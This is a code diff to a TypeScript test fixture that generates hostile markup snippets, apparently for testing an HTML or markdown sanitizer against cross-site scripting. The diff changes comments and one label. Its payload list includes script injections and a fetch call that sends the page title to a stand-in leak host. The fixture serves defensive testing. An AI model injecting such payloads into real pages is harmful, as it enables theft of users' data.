@@ -4,7 +4,7 @@ export interface HostileSnippet {
   source: string
 }
 
-/** The payload of the attacks: a test page defines `hit` and also watches dialogs and requests. */
+/** The scripts that attacks try to run: a test page defines `hit`, and also watches dialogs and requests. */
 const payloads = ['hit()', 'alert(1)', "fetch('https://leak.invalid/?'+document.title)", 'top.hit?.()']
 
 /** Raw markup in which `PAYLOAD` stands for the script. */
@@ -237,8 +237,8 @@ const parserAttacks = [
 const withPayload = (source: string, payload: string) => source.replaceAll('PAYLOAD', payload)
 
 /**
- * Well over a thousand hostile texts in a fixed order: every kind of raw markup in every place of a text, every bad URL in
- * every form of a link, and texts that abuse the syntax.
+ * Well over a thousand hostile texts in a fixed order: every kind of raw markup in every place of a text, every bad
+ * URL in every form of a link, and texts that abuse the syntax.
  */
 export function createHostileSnippets(): HostileSnippet[] {
   const snippets: HostileSnippet[] = []
@@ -254,7 +254,7 @@ export function createHostileSnippets(): HostileSnippet[] {
   }
   for (const payload of payloads) {
     for (const source of parserAttacks)
-      snippets.push({ kind: 'twisted', source: withPayload(source, payload) })
+      snippets.push({ kind: 'parser', source: withPayload(source, payload) })
   }
   return snippets
 }
